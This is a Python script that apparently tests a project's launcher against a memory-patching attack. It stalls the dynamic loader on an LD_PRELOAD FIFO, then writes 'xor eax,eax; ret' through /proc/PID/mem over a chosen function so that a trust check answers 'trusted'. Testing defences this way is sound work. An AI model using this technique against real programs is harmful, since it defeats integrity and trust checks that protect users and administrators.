#!/usr/bin/python3
"""stall-and-patch.py FIFO OBJECT SYMBOL-OFFSET ABSOLUTE -- COMMAND...

The attack on a launcher's first instructions (docs/security-detail.md, "The
launchers' memory"): COMMAND ends by executing the launcher with
LD_PRELOAD=FIFO, so the dynamic loader stops in the FIFO's read before any
code of the launcher runs.
While it waits, this process, its parent and of the same user, opens
/proc/PID/mem and writes "xor eax,eax; ret" over the function at
SYMBOL-OFFSET of OBJECT (the mapped file whose name ends so), making it
answer 0, "trusted".  ABSOLUTE is 1 for a non-PIE executable, whose symbol
values are addresses.  Then it closes the FIFO: the loader reads nothing,
ignores the object and goes on.

Prints one line, "mem: written" or "mem: ERROR", and exits with
COMMAND's status.
"""
import os
import subprocess
import sys

RETURN_ZERO = b"\x31\xc0\xc3"


def load_address(pid, obj):
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            fields = line.split()
            if len(fields) >= 6 and fields[5].endswith(obj) and int(fields[2], 16) == 0:
                return int(fields[0].split("-")[0], 16)
    raise LookupError(f"{obj} is not mapped")


def main():
    fifo, obj, offset, absolute = sys.argv[1:5]
    command = sys.argv[sys.argv.index("--") + 1:]
    child = subprocess.Popen(command)
    # Returns once the loader has opened the FIFO; it then waits in read().
    writer = os.open(fifo, os.O_WRONLY)
    try:
        mem = os.open(f"/proc/{child.pid}/mem", os.O_RDWR)
    except OSError as e:
        print(f"mem: {e.strerror}", flush=True)
    else:
        base = 0 if absolute == "1" else load_address(child.pid, obj)
        os.pwrite(mem, RETURN_ZERO, base + int(offset, 16))
        os.close(mem)
        print("mem: written", flush=True)
    os.close(writer)
    return child.wait()


if __name__ == "__main__":
    sys.exit(main())
